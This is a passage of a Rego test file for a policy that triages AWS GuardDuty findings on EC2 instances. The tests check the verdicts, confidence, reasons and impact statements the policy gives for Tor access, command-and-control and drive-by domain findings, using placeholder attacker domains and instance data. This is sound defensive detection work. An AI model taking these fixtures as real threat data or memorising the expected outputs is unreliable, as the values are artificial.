	v := verdict with input as make_input(f, {"describe": describe, "triage": {}})
	v.verdict == "suspicious"
	v.confidence == 0.5
}

private_instance := object.union(instance, {"details": {"instance_type": "t3.large", "instance_state": "running", "public_ip": null}})

private_describe := object.remove(describe, ["public_ip"])

test_unauthorized_access_on_a_private_instance_is_inconclusive if {
	f := with_resource(finding("UnauthorizedAccess:EC2/TorIPCaller", "medium", inbound("198.51.100.99", 443), target_service), private_instance)
	v := verdict with input as make_input(f, {"describe": private_describe, "triage": clean})
	v.verdict == "inconclusive"
	v.confidence == 0.5
	v.reasons == {"GuardDuty reported UnauthorizedAccess:EC2/TorIPCaller at medium severity, but neither the finding nor the facts confirm or explain it"}
	v.summary == "UnauthorizedAccess:EC2/TorIPCaller on instance i-0a1b2c3d4e5f67890 (web-1) could be neither confirmed nor explained; a responder should review it."
	not v.impact
}

test_high_unauthorized_access_without_public_ip_is_suspicious if {
	f := with_resource(finding("UnauthorizedAccess:EC2/TorClient", "high", outbound("198.51.100.99", 9001), actor_service), private_instance)
	v := verdict with input as make_input(f, {"describe": private_describe, "triage": clean})
	v.verdict == "suspicious"
	"GuardDuty: GuardDuty UnauthorizedAccess:EC2/TorClient finding on i-0a1b2c3d4e5f67890 (UnauthorizedAccess:EC2/TorClient, high severity)" in v.reasons
	v.impact == "instance i-0a1b2c3d4e5f67890 (t3.large, running) has no public address"
}

test_high_fidelity_family_below_high_is_suspicious if {
	f := finding("Trojan:EC2/DriveBySourceTraffic!DNS", "medium", dns("drive.by.example"), actor_service)
	v := verdict with input as make_input(f, facts(clean))
	v.verdict == "suspicious"
	"GuardDuty: the instance queried a domain known for drive-by downloads (domain drive.by.example), at medium severity" in v.reasons
}

# ---------------------------------------------------------------------------
# Context in the reasons and the impact

test_truncated_triage_is_noted if {
	v := verdict with input as make_input(brute_force, facts(triage({"truncated": true})))
	"triage output was truncated: evidence beyond the limit was not examined" in v.reasons
}

test_sample_findings_are_noted if {
	f := finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("GeneratedFindingDomainName"), object.union(actor_service, {"additionalInfo": {"sample": true}}))
	v := verdict with input as make_input(f, facts(clean))
	"GuardDuty marked this finding as a generated sample" in v.reasons
}

test_impact_names_the_group_and_load_balancers if {
	asg := object.union(describe, {"autoscaling_group": "orders-api-asg", "target_groups": ["arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/orders-api/4f2b8c1d9e3a7b6c"], "load_balancers": ["legacy-elb"]})
	f := finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), actor_service)
	v := verdict with input as make_input(f, {"describe": asg, "triage": clean})
	v.impact == concat("; ", [
		"instance i-0a1b2c3d4e5f67890 (t3.large, running) is reachable from the internet at 54.201.17.33",
		"the temporary credentials of its role web-app-role are exposed to whoever controls it and must be treated as stolen",
		"it belongs to auto scaling group orders-api-asg, which may replace or terminate it",
		"it serves traffic behind 2 load balancer target(s)",
	])
}

test_impact_from_the_finding_alone if {
	inst := object.union(instance, {"tags": {"aws:autoscaling:groupName": "web-asg"}})
	f := with_resource(finding("Backdoor:EC2/C&CActivity.B!DNS", "high", dns("cdn-sync.attacker.example"), actor_service), inst)
	v := verdict with input as make_input(f, {})
	v.verdict == "malicious"
	v.impact == concat("; ", [
		"instance i-0a1b2c3d4e5f67890 (t3.large, running) is reachable from the internet at 54.201.17.33",
		"the temporary credentials of the role of its instance profile web-app are exposed to whoever controls it and must be treated as stolen",
		"it belongs to auto scaling group web-asg, which may replace or terminate it",
	])
	v.summary == "Instance i-0a1b2c3d4e5f67890 (web-1) is compromised: malware on the instance queried a domain of a known command-and-control server."
}

test_sparse_instance_details if {
	bare := {"type": "aws_instance", "id": "i-99999999", "tags": {}, "details": {"public_ip": "GeneratedFindingPublicIp"}}
	f := object.union(with_resource(finding("Backdoor:EC2/C&CActivity.B", "high", null, actor_service), bare), {"title": "  "})
	v := verdict with input as make_input(f, {})
	v.verdict == "malicious"
	v.impact == "instance i-99999999 (unknown type, state unknown) has no public address"
	"GuardDuty: the instance contacted a known command-and-control server" in v.reasons
}

test_every_verdict_is_in_the_enum if {
	inputs := [
		make_input(brute_force, facts(clean)),
		make_input(brute_force, {}),
		make_input(outbound_brute_force, {"describe": scanner_describe}),
		make_input(finding("UnauthorizedAccess:EC2/TorIPCaller", "medium", null, target_service), facts(clean)),
		make_input(finding("Backdoor:EC2/Spambot", "high", null, actor_service), facts(clean)),
	]
	every x in inputs {
		v := verdict with input as x
		v.verdict in {"malicious", "suspicious", "benign", "inconclusive"}
		v.confidence >= 0
		v.confidence <= 1
		count(v.reasons) > 0
		is_string(v.summary)
		is_string(v.root_cause)
	}
}
